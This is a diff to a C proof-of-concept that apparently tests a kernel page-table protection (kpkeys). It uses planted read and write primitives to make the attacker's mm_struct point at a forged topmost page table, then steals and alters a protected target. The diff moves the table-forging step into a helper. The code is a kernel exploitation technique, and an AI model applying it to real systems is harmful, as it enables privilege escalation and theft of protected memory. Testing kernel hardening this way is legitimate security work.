@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * Out of scope of protected page tables: have the attacker's own mm_struct
- * point to a topmost table in ordinary memory, a copy of the real one with an
- * entry more. No page table is written to.
+ * Have the attacker's own mm_struct point to a topmost table in ordinary
+ * memory, a copy of the real one with an entry more. No page table is written
+ * to: the CPU loads the forged one.
  */
 #define _GNU_SOURCE
 #include <sched.h>
@@ -13,40 +13,6 @@
 
 #include "common.h"
 #include "upper.h"
-
-/* Pages of the attacker, among which there are some in a row. */
-#define CANDIDATES	1024
-
-/* Topmost tables of both address spaces of x86, each in two versions. */
-#define MAX_PAGES	4
-
-/* Finds @nr pages that lie in a row in physical memory, aligned as a whole. */
-static void find_run(u64 *run[], size_t nr)
-{
-	size_t size = page_size(), i, j, found;
-	char *mem = map_pages(NULL, CANDIDATES * size);
-	static u64 phys[CANDIDATES];
-
-	for (i = 0; i < CANDIDATES; i++) {
-		mem[i * size] = 1;
-		phys[i] = phys_of(mem + i * size);
-	}
-	for (i = 0; i < CANDIDATES; i++) {
-		if (phys[i] % (nr * size))
-			continue;
-		for (found = 0; found < nr; found++) {
-			for (j = 0; j < CANDIDATES; j++)
-				if (phys[j] == phys[i] + found * size)
-					break;
-			if (j == CANDIDATES)
-				break;
-			run[found] = (u64 *)(mem + j * size);
-		}
-		if (found == nr)
-			return;
-	}
-	die("no pages in a row");
-}
 
 /*
  * mm->pgd is looked at when the CPU comes from another address space. With one
@@ -91,12 +57,12 @@ int main(int argc, char **argv)
 	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);
 	u64 span = 1UL << info->shift[KPKEYS_VULN_PGD];
 	char *target = forged_target(KPKEYS_VULN_PGD);
-	size_t size = page_size(), entries = size / sizeof(u64), i, page;
+	size_t size = page_size();
 	char *before = map_pages(target - size, size);
 	char *after = map_pages(target + span, size);
-	u64 *run[MAX_PAGES], forged, offset;
-	struct kpkeys_vuln_mm mm;
 	struct kpkeys_vuln_entry e;
+	struct kpkeys_vuln_mm mm;
+	u64 forged;
 
 	/* All that is needed later has its tables before they are copied. */
 	*before = 1;
@@ -106,20 +72,8 @@ int main(int argc, char **argv)
 		die("the entry is in use");
 	forged = forge_tables(KPKEYS_VULN_PGD, target, secret) | info->table;
 	mm = vuln_mm(before);
-	if (mm.pages > MAX_PAGES)
-		die("the topmost table is too large");
-	find_run(run, mm.pages);
 
-	/* It need not begin at that of a page. */
-	offset = mm.pgd % size;
-	for (page = 0; page < mm.pages; page++) {
-		for (i = 0; i < entries; i++)
-			run[page][i] = vuln_read(mm.pgd - offset + page * size +
-						 i * sizeof(u64));
-		run[page][e.addr % size / sizeof(u64)] = forged;
-	}
-
-	vuln_write(mm.addr, vuln_mm(run[0]).linear + offset);
+	vuln_write(mm.addr, forge_root(&mm, target, forged));
 	switch_away();
 	sync_between(before, after);
 	steal_and_alter(target);
